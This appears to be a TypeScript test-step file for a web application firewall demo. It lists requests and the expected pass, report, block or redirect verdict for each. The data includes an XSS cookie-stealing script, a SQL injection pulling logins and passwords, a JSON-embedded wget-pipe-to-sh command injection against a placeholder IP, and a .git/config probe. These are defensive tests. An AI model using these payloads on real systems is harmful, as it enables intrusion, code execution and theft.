// What the demo sends, and what must become of it.
import { leakedKeyId } from './origin.ts';

export interface Step {
  readonly title: string;
  readonly method: 'GET' | 'POST';
  /** Path and query, already percent-encoded. */
  readonly target: string;
  /** A JSON document to send. */
  readonly json?: object;
  readonly expected: {
    readonly status: number;
    /** As HAProxy's log shows it. */
    readonly verdict: 'pass' | 'report' | 'block' | 'redirect';
    readonly reachesOrigin: boolean;
    /** What the client must not get to see, in body or headers. */
    readonly hidden?: string;
    readonly location?: string;
  };
}

export const steps: readonly Step[] = [
  {
    title: 'A clean request',
    method: 'GET',
    target: '/hello?name=world',
    expected: { status: 200, verdict: 'pass', reachesOrigin: true },
  },
  {
    title: 'A clean JSON upload, with its body inspected',
    method: 'POST',
    target: '/api/orders',
    json: { article: 'tea', comment: 'Please ring twice.' },
    expected: { status: 201, verdict: 'pass', reachesOrigin: true },
  },
  {
    title: 'Cross-site scripting: reported only',
    method: 'GET',
    target: `/search?q=${encodeURIComponent('<script>alert(document.cookie)</script>')}`,
    expected: { status: 200, verdict: 'report', reachesOrigin: true },
  },
  {
    title: 'SQL injection in a parameter: blocked',
    method: 'GET',
    target: `/products?id=${encodeURIComponent("1' UNION SELECT login, password FROM users--")}`,
    expected: { status: 403, verdict: 'block', reachesOrigin: false },
  },
  {
    title: 'Command injection deep in a JSON body: blocked',
    method: 'POST',
    target: '/api/orders',
    json: { article: 'tea', delivery: { notes: ['back door', '$(wget -qO- http://192.0.2.1/x | sh)'] } },
    expected: { status: 403, verdict: 'block', reachesOrigin: false },
  },
  {
    title: 'The origin leaks a cloud key in its JSON: response blocked',
    method: 'GET',
    target: '/api/config',
    expected: { status: 403, verdict: 'block', reachesOrigin: true, hidden: leakedKeyId },
  },
  {
    title: 'The origin leaks error details in a header: response blocked',
    method: 'GET',
    target: '/report',
    expected: { status: 403, verdict: 'block', reachesOrigin: true, hidden: 'report.js' },
  },
  {
    title: 'A probe for a source repository: redirected',
    method: 'GET',
    target: '/.git/config',
    expected: { status: 303, verdict: 'redirect', reachesOrigin: false, location: '/nothing-to-see-here' },
  },
];
